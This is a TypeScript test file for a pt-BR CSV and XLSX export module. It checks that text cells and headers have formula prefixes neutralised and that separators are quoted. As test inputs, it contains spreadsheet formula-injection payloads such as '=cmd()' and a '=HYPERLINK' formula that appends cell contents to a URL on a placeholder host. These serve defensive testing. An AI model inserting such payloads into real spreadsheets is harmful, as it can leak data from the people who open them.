import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { toCsv, toXlsx, type ExportColumn } from './spreadsheet.js';

interface Row {
  nome: string;
  valor: number | null;
  idade: number;
}

const columns: ExportColumn<Row>[] = [
  { header: 'Nome', value: (row) => row.nome },
  { header: 'Valor', value: (row) => row.valor, money: true },
  { header: 'Idade', value: (row) => row.idade },
];

describe('spreadsheet exports', () => {
  it('writes the pt-BR CSV dialect: BOM, semicolons, CRLF, decimal comma, quoted separators', () => {
    const csv = toCsv(columns, [
      { nome: 'Ana; "Aninha"', valor: 85_050, idade: 10 },
      { nome: 'Bruno', valor: null, idade: 11 },
    ]);
    expect(csv).toBe('\uFEFFNome;Valor;Idade\r\n"Ana; ""Aninha""";850,50;10\r\nBruno;;11\r\n');
  });

  it('neutralises every formula prefix in text cells, and only there', () => {
    const rows = ['=cmd()', '+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1'].map((nome) => ({
      nome,
      valor: -100,
      idade: -1,
    }));
    const lines = toCsv(columns, rows).split('\r\n').slice(1, -1);
    expect(lines).toEqual([
      "'=cmd();-1,00;-1",
      "'+1;-1,00;-1",
      "'-2+3;-1,00;-1",
      "'@SUM(A1);-1,00;-1",
      `"'\t=1";-1,00;-1`,
      `"'\r=1";-1,00;-1`,
    ]);
  });

  it('neutralises a header too: some come from what staff typed (a subject in the mapa de notas)', () => {
    // A subject named '=HYPERLINK(…)' by a coordinator became a live formula in the header row of the
    // mapa de notas the direção opened in Excel (security review 2026-12-06, second pass).
    const named: ExportColumn<Row>[] = [
      { header: 'Aluno', value: (row) => row.nome },
      { header: '=HYPERLINK("http://x/?"&A2,"Nota")', value: (row) => row.idade },
      { header: '@SUM(A1)', value: (row) => row.idade },
    ];
    const [header] = toCsv(named, [{ nome: 'Ana', valor: null, idade: 8 }])
      .slice(1)
      .split('\r\n');
    expect(header).toBe(`Aluno;"'=HYPERLINK(""http://x/?""&A2,""Nota"")";'@SUM(A1)`);
  });

  it('quotes a text cell with a comma or a tab, so no other separator puts a formula in a cell of its own', () => {
    const rows = [{ nome: 'Apto 1,=HYPERLINK("http://x/?"&B2,"Clique"),', valor: null, idade: 1 }];
    const [, line] = toCsv(columns, rows).split('\r\n');
    expect(line).toBe('"Apto 1,=HYPERLINK(""http://x/?""&B2,""Clique""),";;1');
    expect(toCsv(columns, [{ nome: 'Rua A\t=1', valor: null, idade: 1 }])).toContain('"Rua A\t=1";;1');
  });

  it('keeps numbers as numbers in the XLSX, money in reais with the R$ format', async () => {
    const buffer = await toXlsx('Teste', columns, [{ nome: '=cmd()', valor: 123_456, idade: 9 }]);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
    const row = workbook.getWorksheet('Teste')!.getRow(2);
    expect(row.getCell(1).value).toBe('=cmd()');
    expect(row.getCell(1).type).toBe(ExcelJS.ValueType.String);
    expect(row.getCell(2).value).toBe(1234.56);
    expect(row.getCell(2).numFmt).toBe('"R$" #,##0.00');
    expect(row.getCell(3).value).toBe(9);
  });
});
